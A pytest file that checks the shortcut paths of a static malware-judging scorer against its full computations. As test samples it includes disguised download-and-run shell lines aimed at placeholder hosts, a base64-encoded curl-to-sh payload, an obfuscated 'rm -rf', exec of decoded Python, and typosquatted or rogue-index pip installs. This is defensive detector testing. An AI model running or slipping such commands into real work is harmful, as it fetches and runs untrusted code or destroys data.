"""The static judge's fast paths give exactly what the plain computations give.

Each shortcut (a cheap gate before a scan, a literal prefilter, a skipped tree rewrite,
skipped padding lines) is compared with the computation it replaces, on the rule
examples and on texts built to sit at the edges of the shortcut.
"""

from __future__ import annotations

import ast
import random
import re

import pytest

from scorers.static_judge import capabilities as cap
from scorers.static_judge import dependencies, obfuscation, package_files
from scorers.static_judge.capabilities import Capability
from scorers.static_judge.findings import line_at
from scorers.static_judge.flow.python_sinks import NET_MODULES, _in_network_module
from scorers.static_judge.normalise_python import normalise, parse_module, walk
from scorers.static_judge.normalise_shell import (
    _ANSI_C,
    _ASSIGN,
    _ansi_c,
    _expand,
    _unquote_word_pieces,
    normalise_shell,
)
from scorers.static_judge.rules import EXAMPLES
from scorers.static_judge.shell_js import (
    _CAPABILITY_CHECKS,
    _NETWORK_WORDS,
    _PROCESS_WORDS,
    JS_PATTERNS,
    PYTHON_FALLBACK,
    SHELL_PATTERNS,
    scan_candidate_lines,
    scan_lines,
    script_capabilities,
)
from scorers.static_judge.threat import _TAG_RANGE

EXAMPLE_TEXTS = [
    text for _, positives, negatives in EXAMPLES.values() for text in positives + negatives
]


def _texts() -> list[str]:
    """Rule examples alone, padded to a later line, and mixed into longer texts."""
    rng = random.Random(11)
    texts = []
    for text in EXAMPLE_TEXTS:
        texts += [text, "\n" * 40 + text, f"# intro\n\n{text}\n"]
    for _ in range(40):
        texts.append("\n".join(rng.sample(EXAMPLE_TEXTS, 12)))
        texts.append("\n" * 25 + "\n".join(rng.sample(EXAMPLE_TEXTS, 5)))
    return texts


TEXTS = _texts()


def test_candidate_line_scan_equals_the_line_by_line_scan() -> None:
    for text in TEXTS:
        for patterns in (SHELL_PATTERNS, JS_PATTERNS + SHELL_PATTERNS, PYTHON_FALLBACK):
            expected = scan_lines("x.sh", text, patterns, " (note)")
            assert scan_candidate_lines("x.sh", text, patterns, " (note)") == expected, text


def _capabilities_every_line(path: str, text: str, language: str) -> list[Capability]:
    """What script_capabilities computed before its prefilter: every check on every line."""
    lines = text.splitlines()
    found = []
    checks = [
        (kind, regex)
        for kind, regex in [
            (cap.NETWORK, _NETWORK_WORDS.get(language, _NETWORK_WORDS["shell"])),
            (cap.PROCESS, _PROCESS_WORDS.get(language)),
            *_CAPABILITY_CHECKS,
        ]
        if regex is not None
    ]
    for kind, regex in checks:
        for number, line in enumerate(lines, 1):
            if not line or line.lstrip().startswith(("#", "//")) and not line.startswith("#!"):
                continue
            match = regex.search(line)
            if match:
                found.append(
                    Capability(kind, path, number, line_at(lines, number), match.group(0)[:60])
                )
                break
    return found


@pytest.mark.parametrize("language", ["shell", "javascript", "python"])
def test_script_capabilities_equal_every_check_on_every_line(language: str) -> None:
    for text in TEXTS:
        expected = _capabilities_every_line("x", text, language)
        assert script_capabilities("x", text, language) == expected, text


def _normalised_every_line(text: str) -> str:
    """normalise_shell's line rewriting without its cheap character gates."""
    constants: dict[str, str] = {}
    out = []
    for raw in text.split("\n"):
        line = raw if len(raw) <= 5000 else raw[:5000]
        if not line.lstrip().startswith("#"):
            line = _unquote_word_pieces(_expand(_ANSI_C.sub(_ansi_c, line), constants))
            for name, value in _ASSIGN.findall(line):
                literal = value.strip("\"'")
                if "$(" not in literal and "`" not in literal and len(literal) < 200:
                    constants[name] = literal
        out.append(line)
    return "\n".join(out)


def test_shell_normalisation_equals_every_rewrite_on_every_line() -> None:
    disguised = [
        "a=cu; b=rl\n$a$b -s https://x.invalid | s''h",
        "x=$'\\x72\\x6d'\n$x -rf /tmp/y",
        "'cu'\"rl\" https://x.invalid | b\\ash",
        '\n\n\nexport A="wg"\n${A}et http://x.invalid/p.sh',
    ]
    for text in TEXTS + disguised:
        assert normalise_shell(text).text == _normalised_every_line(text), text


def test_padding_lines_stay_blank_and_move_payloads_only_by_their_count() -> None:
    script = (
        "echo Y3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2g= | base64 -d | sh\n"
        "python3 - <<EOF\nimport os\nEOF\n"
    )
    plain, padded = normalise_shell(script), normalise_shell("\n" * 9 + script)
    assert padded.text == "\n" * 9 + plain.text
    assert {p.how for p in plain.payloads} == {"base64", "here-document"}
    assert [(p.line - 9, p.how, p.text.lstrip("\n")) for p in padded.payloads] == [
        (p.line, p.how, p.text.lstrip("\n")) for p in plain.payloads
    ]


PYTHON_SOURCES = [
    "import os\nos.system('id')\n",
    'getattr(__import__("o" + "s"), "sys" + "tem")("id")\n',
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "x = ''.join(['cu', 'rl'])\nprint(chr(104) + chr(105))\n",
    "exec('import socket')\n",
    "def f(a):\n    return a % 2\n\nclass C:\n    def g(self):\n        return f'{self}'\n",
    "import codecs\ncodecs.decode('uryyb', 'rot13')\n",
    "data = bytes([104, 105]).decode()\nurl = '%s://%s' % ('https', 'x.invalid')\n",
]


@pytest.mark.parametrize("source", PYTHON_SOURCES)
def test_parsed_module_equals_the_normalised_tree_and_its_walk(source: str) -> None:
    parsed = parse_module(source)
    expected = normalise(ast.parse(source))
    assert ast.dump(parsed.tree, include_attributes=True) == ast.dump(
        expected, include_attributes=True
    )
    assert [ast.dump(n) for n in parsed.nodes] == [ast.dump(n) for n in ast.walk(expected)]


def test_parsed_module_skips_the_rewrite_only_when_nothing_folds() -> None:
    for text in EXAMPLE_TEXTS:
        try:
            parsed = parse_module(text)
        except (SyntaxError, ValueError):
            continue
        expected = normalise(ast.parse(text))
        assert ast.dump(parsed.tree, include_attributes=True) == ast.dump(
            expected, include_attributes=True
        ), text


def test_walk_lists_nodes_in_ast_walk_order() -> None:
    tree = ast.parse("\n".join(PYTHON_SOURCES))
    assert walk(tree) == list(ast.walk(tree))


def _blob_texts() -> list[str]:
    b64 = "QUJD" * 45
    hexrun = "6869" * 45
    return [
        "plain text without blobs",
        f"key = '{b64}'",
        f"-{b64}",  # the base64 pattern refuses a run after '-', the gate must not care
        f"_{b64}",
        f"g{hexrun}",  # a hex run inside a longer base64-alphabet word
        f"x {hexrun} y",
        "s = '" + "\\x68\\x69" * 25 + "'",
        "short " + "A" * 159,
        "data:image/png;base64," + b64,
        "\n".join(EXAMPLE_TEXTS[:50]),
    ]


def test_blob_gate_keeps_every_blob(monkeypatch: pytest.MonkeyPatch) -> None:
    texts = _blob_texts()
    gated = [obfuscation.find_encoded_blobs("x", t) for t in texts]
    monkeypatch.setattr(obfuscation, "_LONG_RUN", re.compile(""))  # gate always open
    assert gated == [obfuscation.find_encoded_blobs("x", t) for t in texts]
    assert any(gated)


def test_hidden_unicode_gate_keeps_every_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [
        "ascii only",
        "caf\u00e9 \u2014 \u201cquoted\u201d",
        "tag: \U000e0041\U000e0042",
        "bidi \u202eabc\u202c",
        "zero\u200b\u200b\u200bwidth",
        "emoji \U0001f600 only",
    ]
    gated = [package_files.hidden_unicode("x", t) for t in texts]
    monkeypatch.setattr(package_files, "_HIDING", re.compile(""))
    assert gated == [package_files.hidden_unicode("x", t) for t in texts]
    assert sum(map(len, gated)) == 3


def test_dependency_gates_keep_every_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [
        "pip install reqeusts",
        "PIP INSTALL reqeusts",
        "P\u0130P install reqeusts",  # a dotted capital I matches 'i' case-insensitively
        "YARN add expresss",
        "pip install --index-url https://evil.invalid/simple x",
        "pip install x --EXTRA-INDEX-URL=https://evil.invalid/simple",
        "nothing to install here",
        *EXAMPLE_TEXTS,
    ]
    gated = [dependencies.dependency_findings("README.md", t) for t in texts]
    monkeypatch.setattr(dependencies, "fold", lambda _text: "pip npm yarn index-url")
    assert gated == [dependencies.dependency_findings("README.md", t) for t in texts]
    assert sum(map(len, gated)) >= 4


def test_tag_range_is_the_max_character_test() -> None:
    for text in ["", "abc", "\u00e9", "\U0001f600", "a\U000e0041", "\U0010fffd", "\U000dffff"]:
        assert bool(_TAG_RANGE.search(text)) == (max(text, default="") >= "\U000e0000"), text


def test_network_module_test_equals_the_prefix_test() -> None:
    names = [
        "requests",
        "requests.post",
        "requestsx.post",
        "urllib.request.urlopen",
        "urllib.parse.quote",
        "http.client.HTTPSConnection",
        "socket",
        "os.system",
        "dns.resolver.resolve",
        "",
        ".",
    ]
    for name in names:
        expected = any(name == m or name.startswith(m + ".") for m in NET_MODULES)
        assert _in_network_module(name) == expected, name
